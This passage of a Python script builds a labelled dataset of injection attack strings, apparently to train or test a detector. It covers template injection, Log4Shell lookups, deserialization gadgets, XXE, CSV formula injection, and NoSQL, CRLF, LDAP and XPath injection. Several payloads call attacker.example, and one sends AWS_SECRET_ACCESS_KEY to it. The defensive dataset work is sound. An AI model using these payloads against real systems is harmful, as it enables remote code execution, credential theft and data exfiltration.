    ("prompt-template-jinja-attr+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("prompt-template-jinja-ssti", "{{ namespace.__init__.__globals__.os.system('curl attacker.example') }}"),
    ("prompt-template-jinja-request-args", "{{ joiner.__init__.__globals__.os.popen(request.args.c).read() }}"),
    ("prompt-template-twig-filter", "{{ ['id']|filter('system') }}"),
    ("prompt-template-twig-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("prompt-template-freemarker-execute", '<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }'),
    ("prompt-template-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("prompt-template-erb-backtick", "Hello <%= `id` %>"),
    ("prompt-template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("prompt-template-erb-system", "Ticket <%= system('whoami') %> updated"),
    ("prompt-template-mako-import", "Dear ${ __import__('os').popen('id').read() }, your renewal is due."),
    ("prompt-template-smarty-function", "Hi {system('id')}!"),
    ("prompt-template-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("prompt-template-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("prompt-template-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("prompt-template-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("prompt-template-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("prompt-template-jsp-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("prompt-template-nunjucks-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("prompt-template-ejs-require", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("prompt-template-format-string-attr", "Summarise {user_input.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("prompt-template-format-string-globals", "{0.__class__.__init__.__globals__}"),
    ("model-setting-log4shell+nested-lookup", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/o}"),
    ("chat-log-log4shell-env-exfil", "User: ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("eval-note-log4shell+default-value-split", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.9/x}"),
    ("user-agent-log4shell-hash-bypass", "${jndi:ldap://127.0.0.1#attacker.example:1389/a}"),
    ("import-pickle-deserialization+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("import-php-object-injection", 'O:8:"Template":1:{s:4:"file";s:11:"/etc/passwd";}'),
    ("import-yaml-python-apply", "name: bot\nsettings: !!python/object/apply:os.system ['id']"),
    ("import-snakeyaml-classloader", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.60/x.jar"]]]]'),
    ("import-jsonnet-typename", '{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start", "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}, "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c whoami"]}}'),
    ("import-jackson-polymorphic", '["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://203.0.113.61:1389/x", "autoCommit": true}]'),
    ("import-fastjson-autotype", '{"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.61/x", "autoCommit": true}'),
    ("import-node-serialize-iife", '{"rce": "_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
    ("import-xxe-oob-parameter-entity", '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><d/>'),
    ("import-xinclude", '<examples xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></examples>'),
    ("import-svg-xxe", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY k SYSTEM "file:///app/.env">]><svg xmlns="http://www.w3.org/2000/svg"><text y="20">&k;</text></svg>'),
    ("import-xml-entity-expansion", '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><prompt>&d;&d;&d;&d;</prompt>'),
    ("settings-json-prototype-pollution", '{"constructor": {"prototype": {"role": "admin"}}}'),
    ("settings-query-prototype-pollution", "theme=dark&__proto__[isAdmin]=true"),
    ("settings-json-prototype-pollution-gadget", '{"model": "x", "__proto__": {"outputFunctionName": "_x;process.mainModule.require(\'child_process\').execSync(\'id\');//"}}'),
    ("eval-export-csv-formula-exfil", '=HYPERLINK("http://attacker.example/?d="&A1, "Open report")'),
    ("eval-export-csv-formula-dde", "@SUM(1+1)*cmd|' /C notepad'!A0"),
    ("eval-export-csv-formula-importxml", '+IMPORTXML(CONCAT("https://attacker.example/?", A2), "//a")'),
    ("eval-export-csv-formula-dde", "-2+3+cmd|'/c calc'!A1"),
    ("eval-export-csv-formula-webservice", '=WEBSERVICE("https://attacker.example/"&B2)'),
    ("calculator-tool-python-eval", "__import__('os').system('id')"),
    ("calculator-tool-python-eval", "(lambda: __import__('subprocess').check_output(['id']))()"),
    ("calculator-tool-js-eval", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("calculator-tool-php-eval", "1;system('id');"),
    ("tool-arg-python-eval", '{"name": "calculator", "arguments": {"expression": "2+2 if __import__(\'os\').system(\'id\') else 0"}}'),
    ("prompt-template-jinja+unicode-escape", "{{ lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f')|attr('\\u005f\\u005fgetitem\\u005f\\u005f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("prompt-template-jinja+urlenc", "%7B%7B%20config.__class__.__init__.__globals__%5B'os'%5D.popen('id').read()%20%7D%7D"),
    ("prompt-template-pug-interpolation", "p Hello #{global.process.mainModule.require('child_process').execSync('id')}"),
    ("prompt-template-go-template-method", '{{ .System "id" }}'),
    ("prompt-template-pebble-runtime", '{{ variable.getClass().forName("java.lang.Runtime").getRuntime().exec("id") }}'),
    ("chat-log-ruby-yaml-deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: []"),
    ("few-shot-jinja-ssti", "Input: {{7*'7'}}\nOutput: {{ cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
]
CODE_CTX = [("prompt-template", "Hello {name}! "), ("system-prompt", "You are helpful. "), ("few-shot", "Output: "),
            ("guardrail-rule", "Block replies with ")]
CODE_TECH = [("jinja-ssti", "{{ cycler.__init__.__globals__.os.popen('ls /').read() }}"),
             ("log4shell-lookup", "${jndi:ldap://ldap.attacker.example:1389/p}"),
             ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
             ("erb-system", "<%= system('cat /etc/hostname') %>"),
             ("mako-import", "${__import__('subprocess').getoutput('id')}")]


def tmpl_code(rng):
    c, pre = rng.choice(CODE_CTX)
    t, p = rng.choice(CODE_TECH)
    return f"{c}-{t}", pre + p


# ---------------------------------------------------------------- NoSQL injection
NOSQLI = [
    ("plain-ne-operator", '{"$ne": null}'),
    ("plain-gt-operator", '{"$gt": ""}'),
    ("login-json-ne-bypass", '{"username": "admin", "password": {"$ne": ""}}'),
    ("prompt-filter-regex-all", '{"owner": {"$regex": ".*"}}'),
    ("login-query-ne-bypass", "password[$ne]=x"),
    ("login-query-regex-gt", "username[$regex]=^adm&password[$gt]="),
    ("prompt-filter-where-sleep", '{"$where": "sleep(5000) || true"}'),
    ("where-string-breakout", "'; return true; var x='"),
    ("where-string-or", "' || this.role == 'admin' || '"),
    ("prompt-filter-or-tautology", '{"tags": {"$in": ["faq"]}, "$or": [{"public": true}, {"public": false}]}'),
    ("prompt-filter-exists", '{"prompt_id": {"$exists": true}}'),
    ("prompt-filter-expr-tautology", '{"$expr": {"$eq": [1, 1]}}'),
    ("key-filter-regex-blind", '{"api_key": {"$regex": "^sk-a"}}'),
    ("pipeline-lookup-injection", '[{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]'),
    ("prompt-filter-function-exec", '{"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}'),
    ("login-json-ne+unicode-escape", '{"username": "admin", "password": {"\\u0024ne": null}}'),
    ("login-query-ne+urlenc", "password%5B%24ne%5D=1"),
    ("prompt-filter-where-regex-blind", '{"$where": "this.password.match(/^a/)"}'),
    ("settings-filter-ne", '{"filter": {"temperature": {"$gte": 0}, "owner": {"$ne": "me"}}}'),
    ("login-json-in-regex", '{"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$regex": ""}}'),
    ("tool-arg-mongo-find-ne", '{"name": "mongo_find", "arguments": {"filter": {"category": {"$ne": "none"}, "$where": "1==1"}}}'),
    ("login-query-nin", "user[$nin][]=nobody&pass[$nin][]=x"),
]


def tmpl_nosqli(rng):
    f = rng.choice(["owner", "author", "team_id", "visibility"])
    op = rng.choice(["$ne", "$gt", "$regex"])
    val = {"$ne": '"zzz"', "$gt": '""', "$regex": '"^"'}[op]
    return "prompt-filter-operator", f'{{"{f}": {{"{op}": {val}}}}}'


# ---------------------------------------------------------------- CRLF / log / header / mail injection
CRLF = [
    ("plain-header-set-cookie", "x\r\nSet-Cookie: session=attacker-fixed-123"),
    ("plain-log-forge", "ok\n2024-06-01 12:00:00 INFO login success user=admin"),
    ("export-filename-header-set-cookie", "Summary\r\nSet-Cookie: session=attacker-fixed-456"),
    ("locale-header-injection", "en-US\r\nX-Forwarded-For: 127.0.0.1"),
    ("redirect-param-header+urlenc", "faq%0d%0aSet-Cookie:%20admin=1"),
    ("redirect-param-location+double-urlenc", "faq%250d%250aLocation:%20https://attacker.example"),
    ("export-filename-response-splitting", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("prompt-title-log-forge", "prompt saved\n2024-06-01 12:00:00 INFO user=admin action=grant_role role=superuser"),
    ("chat-log-audit-forge", "login ok\n[AUDIT] admin deleted all prompts"),
    ("share-email-from-bcc", "Support bot <bot@example.com>\r\nBcc: list@attacker.example"),
    ("share-email-subject-cc", "Weekly eval report\nCc: leak@attacker.example"),
    ("share-email-smtp-smuggling", "Hi\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA"),
    ("export-filename-header+unicode-truncation", "faq嘍嘊Set-Cookie: a=1"),
    ("settings-json-header+json-escape", '{"name": "bot\\r\\nX-Injected: 1"}'),
    ("log-ansi-escape", "eval done \u001b[2J\u001b[1;31mERROR: disk wiped, contact ops@attacker.example"),
    ("log-forge+urlenc", "run-7%0aINFO%20admin%20login%20success"),
    ("model-name-header-lf", "chat-small\nX-Api-Key: test-PLACEHOLDER"),
    ("redirect-path-location", "/prompts/42\r\nLocation: https://attacker.example/phish"),
    ("theme-cookie-set-cookie", "dark\r\nSet-Cookie: role=admin; Path=/"),
    ("share-email-reply-to", "ana@example.com\nReply-To: ana@attacker.example"),
    ("redirect-param-header+utf8-truncation", "%E5%98%8A%E5%98%8DSet-Cookie:x=1"),
    ("log-json-forge", 'ok"}\n{"level":"info","user":"admin","msg":"password changed"'),
    ("log-syslog-forge", "msg\n<13>Jun  1 12:00:00 host sshd[1]: Accepted password for root from 203.0.113.9"),
    ("redirect-param-body-injection+urlenc", "x%0d%0a%0d%0a<html>defaced</html>"),
    ("eval-run-header-body", "eval-run-7\r\n\r\n{\"admin\":true}"),
    ("share-email-to-bcc+urlenc", "team@example.com%0ABcc:all@attacker.example"),
]


def tmpl_crlf(rng):
    name = rng.choice(["FAQ bot", "Übersetzer", "haiku-gen", "sql-helper"])
    user = rng.choice(["admin", "root", "billing", "owner"])
    return "prompt-title-log-forge", f"{name}\n2024-0{rng.randint(1, 9)}-1{rng.randint(0, 9)} 0{rng.randint(0, 9)}:00:00 INFO user={user} action=export_all"


# ---------------------------------------------------------------- LDAP / XPath injection
LDAP_XPATH = [
    ("plain-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("plain-xpath-tautology", "' or '1'='1"),
    ("colleague-lookup-ldap-and-true", "admin)(&)"),
    ("colleague-lookup-ldap-objectclass", "*)(|(objectClass=*)"),
    ("colleague-lookup-ldap-group-filter", "ana*)(memberOf=cn=admins,ou=groups,dc=example,dc=com"),
    ("colleague-lookup-ldap-blind-password", "*)(userPassword=a*"),
    ("colleague-lookup-ldap-or", "Müller)(|(mail=*"),
    ("colleague-lookup-ldap-nullbyte", "admin*))%00"),
    ("colleague-lookup-ldap+urlenc", "%2a%29%28objectClass%3d%2a"),
    ("tool-arg-ldap-or", '{"name": "ldap_lookup_colleague", "arguments": {"display_name": "*)(|(description=*"}}'),
    ("xpath-extract-tautology", "' or 1=1 or 'a'='a"),
    ("xpath-extract-node-name", "x' or name()='password' or 'x'='y"),
    ("xpath-extract-union", "'] | //user/password | //a['"),
    ("xpath-extract-count-blind", "' or count(/*)=1 or '"),
    ("xpath-extract-substring-blind", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("xpath-login-string-length-blind", "admin' or '1'='1' and string-length(//user[position()=1]/secret)>5 or 'x'='"),
    ("xpath-extract-double-quote", '") or ("1"="1'),
    ("xpath-extract-comment-node", "'] | //comment() | //*['"),
    ("colleague-lookup-ldap-attr-probe", "j*)(telephoneNumber=*"),
]


def tmpl_ldap_xpath(rng):
    n = rng.choice(["Jörg", "Ana", "Li", "O'Neil"])
    return "colleague-lookup-ldap-or", f"{n}*)(|(cn={rng.choice(['a', 'b', 'adm', 'svc'])}*"


CATEGORIES = [
    ("sqli", SQLI, tmpl_sqli, 12),
    ("xss", XSS, tmpl_xss, 9),
    ("cmdi", CMDI, tmpl_cmdi, 10),
    ("traversal", TRAVERSAL, tmpl_traversal, 7),
    ("ssrf", SSRF, tmpl_ssrf, 6),
    ("code", CODE, tmpl_code, 10),
    ("nosqli", NOSQLI, tmpl_nosqli, 3),
    ("crlf", CRLF, tmpl_crlf, 3),
    ("ldap-xpath", LDAP_XPATH, tmpl_ldap_xpath, 2),
]


def load_benign_values():
    p = Path(__file__).with_name("benign.jsonl")
    if not p.exists():
        return []
    with open(p, encoding="utf-8") as f:
        return [json.loads(line)["value"] for line in f if line.strip()]


def main():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    total_lit = 0
    for cat, literals, tmpl, n_gen in CATEGORIES:
        items = []
        for cls, v in literals:
            if v in seen:
                sys.exit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        tries = 0
        while len(items) < n_lit + n_gen:
            tries += 1
            if tries > 10000:
                sys.exit(f"{cat}: template pool exhausted")
            cls, v = tmpl(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        total_lit += n_lit
        for cls, v in items:
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
            rows.append((cat, cls, v))
        print(f"{cat:11s} {len(items):4d}  literals={n_lit}")
    overlap = sorted(set(load_benign_values()) & seen)
    if overlap:
        sys.exit(f"values shared with benign.jsonl: {overlap[:3]}")
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    print(f"total {len(rows)}  literals={total_lit} ({100 * total_lit / len(rows):.1f}%)  -> {out.name}")


if __name__ == "__main__":
    main()
